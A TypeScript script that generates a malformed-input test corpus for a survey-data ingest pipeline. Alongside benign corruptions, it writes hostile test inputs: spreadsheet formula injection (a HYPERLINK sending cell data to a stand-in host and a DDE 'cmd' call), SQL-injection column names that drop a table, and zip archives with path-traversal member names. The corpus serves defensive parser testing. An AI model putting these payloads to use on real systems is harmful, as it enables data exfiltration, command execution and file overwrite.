/**
 * Writes the malformed-input corpus in `corpus/` from the deterministic demo export (one producer, three
 * submissions), bending each file the way real exports go wrong. It documents how every file was made and gives the
 * same bytes on every run; the suite never runs it and reads only the committed files, so a change to the demo does
 * not silently change the corpus. What each file must produce is in expected.yml.
 *
 *   npx tsx tests/malformed/write-corpus.ts            (rewrites every file in corpus/)
 *   npx tsx tests/malformed/write-corpus.ts 43-… 47-…  (writes only the files named)
 *
 * The zip bomb is not written here: it is too big to commit, and the suite makes it in a temp folder.
 */
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import ExcelJS from 'exceljs';
import JSZip from 'jszip';
import { csvLine, KOBO_SEMICOLON, PLAIN_CSV } from '../../ingest/demo/csv-line.ts';
import { setZipEntryDates } from '../../ingest/demo/set-zip-entry-dates.ts';
import { writeDemoData } from '../../ingest/demo/write-demo-data.ts';
import { parseCsv } from '../helpers/parse-csv.ts';
import { deflated, zipBytes } from '../helpers/zip-bytes.ts';

const CORPUS = fileURLToPath(new URL('./corpus/', import.meta.url));
const FORM = fileURLToPath(new URL('../../warehouse/forms/veta_site_assessment_craft-2.1.xlsx', import.meta.url));
/** One date on every zip entry, so the same corpus always gives the same bytes. */
const ZIP_DATE = new Date(Date.UTC(2022, 2, 20, 9, 0, 0));

type Table = { header: string[]; rows: string[][] };

/** Kobo's `;` dialect: every cell quoted, CRLF between records. */
const kobo = ({ header, rows }: Table, eol = '\r\n') => [header, ...rows].map((r) => csvLine(r, KOBO_SEMICOLON) + eol).join('');
/** What spreadsheets and databases write: quotes only where needed. */
const plain = ({ header, rows }: Table, eol = '\n') => [header, ...rows].map((r) => csvLine(r, PLAIN_CSV) + eol).join('');

function table(text: string, delimiter: string): Table {
  const [header, ...rows] = parseCsv(text, delimiter);
  return { header, rows };
}

function withCell(t: Table, row: number, column: string, value: string): Table {
  const at = t.header.indexOf(column);
  if (at < 0) throw new Error(`no column ${column}`);
  return { header: t.header, rows: t.rows.map((r, i) => (i === row ? r.map((c, j) => (j === at ? value : c)) : r)) };
}

/** Windows-1252 bytes of a text (Excel's "CSV" in Spanish and French locales); fails on a character it lacks. */
function windows1252(text: string): Buffer {
  const decoder = new TextDecoder('windows-1252');
  const byChar = new Map<string, number>();
  for (let b = 0; b < 256; b += 1) byChar.set(decoder.decode(Uint8Array.of(b), { stream: true }), b);
  return Buffer.from(
    [...text].map((c) => {
      const b = byChar.get(c);
      if (b === undefined) throw new Error(`no Windows-1252 byte for ${JSON.stringify(c)}`);
      return b;
    }),
  );
}

async function zip(members: Record<string, string | Buffer>): Promise<Buffer> {
  const z = new JSZip();
  for (const [name, content] of Object.entries(members)) z.file(name, content, { date: ZIP_DATE, createFolders: false });
  return z.generateAsync({ type: 'nodebuffer', compression: 'DEFLATE', compressionOptions: { level: 9 }, platform: 'UNIX' });
}

/** Spanish labels of the form's groups and questions, as a KoboToolbox "Labels" export writes its header. */
async function spanishLabels(): Promise<Map<string, string>> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(FORM);
  const survey = workbook.getWorksheet('survey')!;
  const header = (survey.getRow(1).values as unknown[]).map(String);
  const name = header.indexOf('name');
  const label = header.indexOf('label::Español (es)');
  const labels = new Map<string, string>();
  survey.eachRow((row, n) => {
    const values = row.values as unknown[];
    if (n > 1 && values[name] && values[label]) labels.set(String(values[name]), String(values[label]));
  });
  return labels;
}

/** A 1×1 PNG, the smallest real image. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==', 'base64');

/** The first sector of an OLE compound file, as an Excel 97–2003 .xls starts. */
function oleHeader(): Buffer {
  const bytes = Buffer.alloc(1536);
  Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]).copy(bytes, 0);
  bytes.writeUInt16LE(0x003e, 24); // minor version
  bytes.writeUInt16LE(0x0003, 26); // major version 3
  bytes.writeUInt16LE(0xfffe, 28); // little-endian
  bytes.writeUInt16LE(9, 30); // 512-byte sectors
  bytes.writeUInt16LE(6, 32); // 64-byte mini sectors
  return bytes;
}

const PDF = [
  '%PDF-1.4',
  '%\u00e2\u00e3\u00cf\u00d3',
  '1 0 obj << /Type /Catalog /Pages 2 0 R >> endobj',
  '2 0 obj << /Type /Pages /Kids [3 0 R] /Count 1 >> endobj',
  '3 0 obj << /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >> endobj',
  'trailer << /Root 1 0 R >>',
  '%%EOF',
  '',
].join('\n');

const LOGIN_PAGE = `<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>KoboToolbox | Login</title>
</head>
<body>
<form method="post" action="/accounts/login/?next=/api/v2/assets/aKxq3sJ8bTn5PhgUQvXc2D/export-settings/">
<input type="hidden" name="csrfmiddlewaretoken" value="0Zy7Qe1mT4c8">
<label for="id_login">Username</label><input type="text" name="login" id="id_login">
<label for="id_password">Password</label><input type="password" name="password" id="id_password">
<button type="submit">Login</button>
</form>
</body>
</html>
`;

/** An extract of IPIS's open mine-site visits data (DRC), its own column names; the older waves carry only a year. */
const IPIS: Table = {
  header: ['FID', 'vid', 'pcode', 'name', 'visit_date', 'longitude', 'latitude', 'province', 'territoire', 'workers_numb', 'mineral1', 'qualification'],
  rows: [
    ['cod_mines_curated_all_opendata_p_ipis.fid--3e60154c_17e6949c6d6_2327', '308', 'codmine01426', 'Binasilima', '2010', '26.99371593', '-1.46125031', 'Maniema', 'Punia', '1500', 'Cassitérite', 'not class'],
    ['cod_mines_curated_all_opendata_p_ipis.fid--3e60154c_17e6949c6d6_2371', '382', 'codmine01530', 'Makasangongo', '2010', '28.795', '1.120917', 'Ituri', 'Mambasa', '30', 'Or', 'not class'],
    ['cod_mines_curated_all_opendata_p_ipis.fid--3e60154c_17e6949c6d6_2402', '415', 'codmine01561', 'Kisanga', '2009', '27.5081', '-2.9412', 'Sud-Kivu', 'Shabunda', '200', 'Or', 'not class'],
  ],
};

async function main(): Promise<void> {
  const scratch = await mkdtemp(path.join(tmpdir(), 'veta-corpus-'));
  try {
    const demo = await writeDemoData(scratch, { producers: 1, maxSubmissions: 3 });
    const koboText = await readFile(demo.files.kobo_csv, 'utf8');
    const form = table(koboText, ';');
    const ledger = table(await readFile(demo.files.sales_ledger, 'utf8'), ',');
    const ledger4: Table = { header: ledger.header, rows: ledger.rows.slice(0, 4) };
    const two: Table = { header: form.header, rows: form.rows.slice(0, 2) };
    const odk = await JSZip.loadAsync(await readFile(demo.files.odk_zip!));
    const odkRootName = 'veta_site_assessment_craft_2_1.csv';
    const odkRepeatName = 'veta_site_assessment_craft_2_1-improvement_actions.csv';
    const odkRoot = table(await odk.file(odkRootName)!.async('string'), ',');
    const odkRepeat = table(await odk.file(odkRepeatName)!.async('string'), ',');
    const repeatOf = (rootRows: string[][]) => {
      const keys = new Set(rootRows.map((r) => r[odkRoot.header.indexOf('KEY')]));
      return { header: odkRepeat.header, rows: odkRepeat.rows.filter((r) => keys.has(r[odkRepeat.header.indexOf('PARENT_KEY')])).slice(0, 4) };
    };

    const files: Record<string, string | Buffer | (() => Promise<Buffer>)> = {
      '01-empty.csv': Buffer.alloc(0),
      '02-bom-only.csv': Buffer.from([0xef, 0xbb, 0xbf]),
      '03-kobo-header-only.csv': kobo({ header: form.header, rows: [] }),
      '04-report-pdf-renamed.csv': Buffer.from(PDF, 'latin1'),
      '05-photo-png-renamed.csv': PNG,
      '06-old-excel-renamed.xlsx': oleHeader(),
      '07-kobo-csv-renamed.xlsx': kobo(two),
      '08-zip-readme-only.zip': () =>
        zip({ 'readme.txt': 'ODK Central export of veta_site_assessment_craft_2_1.\r\nThe CSV files were sent separately.\r\n' }),
      '09-zip-path-traversal.zip': () => zip({ [`../${odkRootName}`]: plain({ header: odkRoot.header, rows: odkRoot.rows.slice(0, 2) }) }),
      '10-workbook-main-sheet-missing.xlsx': async () => {
        const workbook = new ExcelJS.Workbook();
        await workbook.xlsx.readFile(demo.files.kobo_xlsx!);
        const actions = workbook.getWorksheet('improvement_actions')!;
        for (const sheet of [...workbook.worksheets]) if (sheet.id !== actions.id) workbook.removeWorksheet(sheet.id);
        actions.spliceRows(6, actions.rowCount);
        workbook.created = ZIP_DATE;
        workbook.modified = ZIP_DATE;
        const file = path.join(scratch, 'actions-only.xlsx');
        await workbook.xlsx.writeFile(file);
        await setZipEntryDates(file, ZIP_DATE);
        return readFile(file);
      },
      '11-workbook-truncated.xlsx': async () => {
        const bytes = await readFile(demo.files.kobo_xlsx!);
        return bytes.subarray(0, Math.floor(bytes.length / 2));
      },
      '12-kobo-export-saved-as.txt': kobo(two),
      '13-gps-track.dat': Buffer.from(Array.from({ length: 512 }, (_, i) => (i * 73 + 41) % 256)),
      '14-unrelated-columns.csv': plain({
        header: ['Fecha', 'Trabajador', 'Horas', 'Turno', 'Observaciones'],
        rows: [
          ['2024-03-04', 'J. Pérez', '8', 'mañana', ''],
          ['2024-03-04', 'L. Gómez', '6', 'tarde', 'salió temprano'],
        ],
      }),
      '15-kobo-row-too-many-cells.csv': (() => {
        // A note typed after a cell in a text editor, outside its quotes: one cell more than the header.
        const at = form.header.indexOf('site/site_name');
        return kobo({ header: form.header, rows: form.rows.map((r, i) => (i === 1 ? [...r.slice(0, at + 1), 'revisado', ...r.slice(at + 1)] : r)) });
      })(),
      '16-kobo-row-too-few-cells.csv': kobo({ header: form.header, rows: form.rows.map((r, i) => (i === 0 ? r.slice(0, -2) : r)) }),
      '17-kobo-unterminated-quote.csv': (() => {
        const text = kobo(form);
        return text.slice(0, text.lastIndexOf('"')); // the last cell's closing quote and line end are lost
      })(),
      '18-kobo-quoted-newlines.csv': kobo(
        withCell(withCell(two, 0, 'm1/r_M1_1_evidence', 'Primera línea\r\nsegunda línea; con "comillas"\ny tercera'), 1, 'site/site_name', 'Mina "La Esperanza";\nfrente 2'),
      ),
      '19-kobo-empty-uuid.csv': kobo(withCell(form, 1, '_uuid', '')),
      '20-kobo-duplicate-header.csv': (() => {
        const at = form.header.indexOf('site/site_name');
        const dup = (r: string[], extra: string) => [...r.slice(0, at + 1), extra, ...r.slice(at + 1)];
        return kobo({ header: dup(form.header, 'site/site_name'), rows: form.rows.map((r) => dup(r, r[at].toUpperCase())) });
      })(),
      '21-kobo-same-submission-twice.csv': kobo({ header: form.header, rows: [...form.rows, form.rows[0]] }),
      '22-kobo-windows-1252.csv': windows1252(kobo(form)),
      '23-kobo-utf8-bom.csv': Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(kobo(two))]),
      '24-kobo-mixed-line-endings.csv': (() => {
        const [header, ...rows] = [form.header, ...form.rows].map((r) => csvLine(r, KOBO_SEMICOLON));
        return `${header}\r\n${rows[0]}\n${rows[1]}\r\n${rows[2]}\n`;
      })(),
      '25-kobo-nul-byte.csv': kobo(withCell(two, 1, 'site/site_name', 'Entable\u0000El Diamante')),
      '26-kobo-long-cell.csv': kobo(
        withCell({ header: form.header, rows: form.rows.slice(0, 1) }, 0, 'm1/r_M1_1_evidence', 'Registro de producción revisado. '.repeat(1600).slice(0, 50_000)),
      ),
      '27-kobo-decimal-commas.csv': kobo(
        withCell(withCell(withCell(two, 0, 'practices/mercury_kg_per_month', '0,32'), 0, 'site/_gps_latitude', '2,83068'), 1, 'practices/mercury_kg_per_month', '0,64'),
      ),
      '28-kobo-trailing-empty-columns.csv': kobo(two)
        .split('\r\n')
        .map((l) => (l ? `${l};;;` : l))
        .join('\r\n'),
      '29-ledger-missing-sale-id.csv': plain(withCell(ledger4, 2, 'sale_id', '')),
      '30-ledger-day-first-dates.csv': plain({
        header: ledger4.header,
        rows: ledger4.rows.map((r) => r.map((c, j) => (ledger4.header[j] === 'sale_date' ? c.split('-').reverse().join('/') : c))),
      }),
      '31-ledger-excel-serial-dates.csv': plain({
        header: ledger4.header,
        rows: ledger4.rows.map((r) =>
          r.map((c, j) => (ledger4.header[j] === 'sale_date' ? String(Math.round(Date.parse(`${c}T00:00:00Z`) / 86_400_000) + 25_569) : c)),
        ),
      }),
      '32-incidents-missing-severity.csv': plain({
        header: ['incident_id', 'site_code', 'reported_on', 'annex_ii_group', 'status', 'source', 'summary'],
        rows: [
          ['INC-0001', 'CO-P001-S1', '2021-09-14', 'serious_abuses', 'open', 'grievance_mechanism', 'Denuncia de trabajo de menores en el frente 2'],
          ['INC-0002', 'CO-P001-S1', '2021-11-02', 'public_security', 'closed', 'site_visit', 'Presencia de seguridad privada sin registro'],
        ],
      }),
      '33-ipis-year-only-dates.csv': plain(IPIS),
      '34-odk-zip-root-missing.zip': () => zip({ [odkRepeatName]: plain(repeatOf(odkRoot.rows.slice(0, 2))) }),
      '35-odk-zip-short-row.zip': () => {
        const rows = odkRoot.rows.slice(0, 2).map((r, i) => (i === 1 ? r.slice(0, -3) : r));
        return zip({ [odkRootName]: plain({ header: odkRoot.header, rows }), [odkRepeatName]: plain(repeatOf(rows)) });
      },
      '36-kobo-labels-headers.csv': async () => {
        const labels = await spanishLabels();
        const header = form.header.map((h) => h.split('/').map((part) => labels.get(part) ?? part).join('/'));
        return Buffer.from(kobo({ header, rows: two.rows }));
      },
      '37-kobo-utf16.csv': Buffer.concat([
        Buffer.from([0xff, 0xfe]),
        Buffer.from([two.header, ...two.rows].map((r) => r.map((c) => c.replace(/[\t\r\n]+/g, ' ')).join('\t')).join('\r\n') + '\r\n', 'utf16le'),
      ]),
      '38-kobo-login-page.csv': LOGIN_PAGE,
      '39-kobo-formula-injection.csv': kobo(
        withCell(withCell(two, 0, 'identification/assessor_name', '=HYPERLINK("http://example.invalid/?d="&A2,"ver")'), 1, 'site/site_name', "@SUM(1+1)*cmd|' /C calc'!A0"),
      ),
      '40-other-form-hostile-names.csv': kobo({
        header: ['start', 'nombre"); drop table meta.ingest_batches; --', "it's", 'a"b', '_uuid', '_submission_time'],
        rows: [
          ['2024-05-01T09:00:00', 'x', 'y', 'z', 'c5b2a6a4-2f7e-4d1e-9a51-0e4b1c2d3e4f', '2024-05-01T09:10:00'],
          ['2024-05-01T10:00:00', "'; select 1; --", '\\', '${x}', '0f9e8d7c-6b5a-4c3d-8e2f-1a0b9c8d7e6f', '2024-05-01T10:10:00'],
        ],
      }),
      '41-ledger-excel-semicolons-crlf.csv': windows1252(
        [ledger4.header, ...ledger4.rows.map((r) => r.map((c, j) => (['gold_grams', 'fineness', 'fine_gold_grams', 'premium_usd'].includes(ledger4.header[j]) ? c.replace('.', ',') : c)))]
          .map((r) => r.join(';'))
          .join('\r\n') + '\r\n',
      ),
      // Members named to land outside the folder they are unpacked into, as hostile archives name them; written byte
      // by byte, as zip libraries clean such names up.
      ...Object.fromEntries(
        (
          [
            ['43-zip-backslash-traversal.zip', `..\\${odkRootName}`],
            ['44-zip-absolute-path.zip', `/${odkRootName}`],
            ['45-zip-drive-letter.zip', `C:\\Users\\Public\\${odkRootName}`],
            ['46-zip-nul-in-name.zip', `${odkRootName}\u0000.txt`],
          ] as const
        ).map(([file, member]) => [file, zipBytes([deflated(member, Buffer.from(plain({ header: odkRoot.header, rows: odkRoot.rows.slice(0, 2) })))])]),
      ),
      '47-workbook-traversal-member.xlsx': async () => {
        const workbook = await JSZip.loadAsync(await readFile(demo.files.kobo_xlsx!));
        const parts = await Promise.all(
          Object.values(workbook.files)
            .filter((entry) => !entry.dir)
            .map(async (entry) => deflated(entry.name, await entry.async('nodebuffer'))),
        );
        return zipBytes([...parts, deflated('../../xl/worksheets/sheet1.xml', Buffer.from('<worksheet/>'))]);
      },
    };

    const only = process.argv.slice(2);
    await mkdir(CORPUS, { recursive: true });
    for (const [name, content] of Object.entries(files).filter(([name]) => only.length === 0 || only.includes(name))) {
      const bytes = typeof content === 'function' ? await content() : content;
      await writeFile(path.join(CORPUS, name), bytes);
    }
  } finally {
    await rm(scratch, { recursive: true, force: true });
  }
}

await main();
